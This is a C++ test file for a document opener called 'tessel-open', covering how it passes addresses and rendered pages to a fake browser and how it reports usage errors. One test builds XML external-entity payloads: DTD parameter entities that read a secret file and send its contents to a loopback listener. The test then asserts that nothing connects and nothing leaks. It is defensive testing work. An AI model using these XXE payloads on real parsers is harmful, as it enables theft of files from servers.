// The installed program end to end, with the stand-in browser recording what it got.
#include <gtest/gtest.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/wait.h>

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <thread>

#include "platform/fd.h"
#include "tests/opener/opener_fixtures.h"
#include "tests/platform/test_env.h"

namespace {

struct ProgramRun {
    int exitCode = -1;
    std::string stderrText;
    std::string browserLog;  // the fake browser's line, "" when it was not started
};

ProgramRun RunOpener(const tv::test::TempFolder& dir, const std::string& browser,
                     const std::string& args) {
    const std::string log = dir / "browser.log";
    const std::string command = "timeout 60 env BROWSER='" + browser + "' TESSEL_FAKE_LOG='" + log +
                                "' '" + TESSEL_OPENER + "' " + args + " 2>'" + (dir / "stderr") +
                                "'";
    ProgramRun run;
    const int status = std::system(command.c_str());
    run.exitCode = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    run.stderrText = tv::test::ReadAll(dir / "stderr");
    // The browser runs detached; give it a moment to write its line.
    for (int i = 0; i < 100 && run.exitCode == 0 && run.browserLog.empty(); ++i) {
        std::this_thread::sleep_for(std::chrono::milliseconds(50));
        run.browserLog = tv::test::ReadAll(log);
    }
    return run;
}

std::string FakeBrowser() {
    return std::string(std::getenv("TESSEL_TEST_TOOLS")) + "/fake-browser";
}

TEST(OpenerProgram, HandsAddressesAndPagesToTheBrowser) {
    tv::test::TempFolder dir;
    ProgramRun address = RunOpener(dir, FakeBrowser(), "'https://example.org/search?q=1&x=2'");
    EXPECT_EQ(address.exitCode, 0) << address.stderrText;
    EXPECT_NE(address.browserLog.find("\thttps://example.org/search?q=1&x=2\n"), std::string::npos)
        << address.browserLog;

    tv::test::TempFolder docs;
    tv::test::WriteFile(docs / "s.xsl",
                        tv::test::XslWrap("<html><body><img src=\"f.tif\"/></body></html>"));
    tv::test::WriteFile(docs / "d.xml", tv::test::StyledXml("s.xsl", "<r/>"));
    ASSERT_TRUE(tv::test::MakeG4Tiff(docs / "f.tif", 40, 30));
    ProgramRun page = RunOpener(dir, FakeBrowser(), "'" + (docs / "d.xml") + "'");
    EXPECT_EQ(page.exitCode, 0) << page.stderrText;
    EXPECT_NE(page.browserLog.find("\t" + (docs / "d.xml.html")), std::string::npos)
        << page.browserLog;
    EXPECT_EQ(tv::test::ReadPngHeader(docs / "f.png").width, 40u);
}

TEST(OpenerProgram, UsageAndMissingBrowserFailWithOneLine) {
    tv::test::TempFolder dir;
    const struct {
        std::string browser;
        std::string args;
        int exitCode;
        const char* message;
    } cases[] = {
        {FakeBrowser(), "", 2, "usage: tessel-open TARGET"},
        {FakeBrowser(), "a b", 2, "usage: tessel-open TARGET"},
        {dir / "no-such-browser", "https://example.org", 1, "cannot start the browser"},
    };
    for (const auto& c : cases) {
        const ProgramRun run = RunOpener(dir, c.browser, c.args);
        EXPECT_EQ(run.exitCode, c.exitCode) << c.args;
        EXPECT_NE(run.stderrText.find(c.message), std::string::npos) << run.stderrText;
        EXPECT_EQ(std::count(run.stderrText.begin(), run.stderrText.end(), '\n'), 1);
    }
}

// A listener on 127.0.0.1 that never accepts by itself: the test asks afterwards
// whether anyone connected.
struct Listener {
    tv::UniqueFd fd{::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0)};
    int port = 0;
    Listener() {
        sockaddr_in a{};
        a.sin_family = AF_INET;
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        socklen_t size = sizeof a;
        if (::bind(fd.Get(), reinterpret_cast<sockaddr*>(&a), size) == 0 &&
            ::listen(fd.Get(), 8) == 0 &&
            ::getsockname(fd.Get(), reinterpret_cast<sockaddr*>(&a), &size) == 0) {
            port = ntohs(a.sin_port);
        }
    }
    bool Connected() const {
        tv::UniqueFd peer(::accept(fd.Get(), nullptr, nullptr));
        return peer.Valid();
    }
};

// Documents whose DTD uses parameter entities to read a file outside their folder and
// send it to a listener, and whose text carries remote addresses: nothing connects,
// the secret appears in no page, the run ends.
TEST(OpenerProgram, HostileDocumentsReachNothing) {
    Listener listener;
    ASSERT_NE(listener.port, 0);
    const std::string url = "http://127.0.0.1:" + std::to_string(listener.port);
    tv::test::TempFolder dir;
    tv::test::TempFolder outside;
    tv::test::TempFolder docs;
    tv::test::WriteFile(outside / "secret.txt", "SECRET-4711");
    tv::test::WriteFile(docs / "s.xsl", tv::test::XslWrap("<html><body><xsl:copy-of "
                                                          "select=\"/r/node()\"/></body></html>"));
    tv::test::WriteFile(docs / "d.dtd", "<!ENTITY % s SYSTEM \"" + outside / "secret.txt" +
                                            "\">\n<!ENTITY % w \"<!ENTITY &#x25; u SYSTEM '" + url +
                                            "/?%s;'>\">\n%w;\n%u;\n");
    const std::string body = "<r><img src=\"" + url + "/i.png\"/><p>&#x53;ECRET text</p></r>";
    const struct {
        const char* name;
        std::string prolog;
        bool pageWritten;
    } cases[] = {
        {"dtd.xml", "<!DOCTYPE r SYSTEM \"d.dtd\">", false},
        {"subset.xml",
         "<!DOCTYPE r [<!ENTITY % n SYSTEM \"" + url + "/n\"> %n; <!ENTITY % s SYSTEM \"" +
             outside / "secret.txt" + "\"> %s;]>",
         false},
        {"copied.xml", "", true},
    };
    for (const auto& c : cases) {
        tv::test::WriteFile(docs / c.name, tv::test::StyledXml("s.xsl", c.prolog + body));
        const auto start = std::chrono::steady_clock::now();
        const ProgramRun run = RunOpener(dir, FakeBrowser(), "'" + (docs / c.name) + "'");
        EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(20)) << c.name;
        EXPECT_EQ(run.exitCode, 0) << c.name << run.stderrText;
        const std::string page = tv::test::ReadAll(docs / c.name + ".html");
        EXPECT_NE(run.browserLog.find(docs / c.name + ".html"), std::string::npos) << c.name;
        EXPECT_EQ(page.find("SECRET-4711"), std::string::npos) << c.name;
        EXPECT_EQ(page.find("=\"" + url), std::string::npos) << c.name << page;  // no address
        EXPECT_EQ(page.find("Refused by the rule") == std::string::npos, c.pageWritten) << page;
    }
    EXPECT_FALSE(listener.Connected());
}

}  // namespace
